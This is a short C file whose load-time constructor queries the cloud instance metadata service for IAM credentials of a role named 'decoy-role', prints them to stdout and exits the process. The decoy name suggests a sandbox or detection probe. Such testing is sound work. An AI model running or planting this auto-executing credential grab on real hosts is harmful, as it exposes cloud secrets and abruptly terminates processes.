/* Asks for the credentials when it is loaded, and writes the answer to stdout. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

static const char request[] =
    "GET /latest/meta-data/iam/security-credentials/decoy-role HTTP/1.1\r\n"
    "Host: 169.254.169.254\r\nConnection: close\r\n\r\n";

__attribute__((constructor)) static void ask(void)
{
    struct sockaddr_in service = {.sin_family = AF_INET, .sin_port = htons(80)};
    char answer[65536];
    ssize_t length;
    int sock = socket(AF_INET, SOCK_STREAM, 0);

    inet_pton(AF_INET, "169.254.169.254", &service.sin_addr);
    if (connect(sock, (struct sockaddr *)&service, sizeof service) != 0)
        _exit(1);
    if (write(sock, request, sizeof request - 1) < 0)
        _exit(1);
    while ((length = read(sock, answer, sizeof answer)) > 0)
        if (write(1, answer, length) < 0)
            _exit(1);
    _exit(0);
}
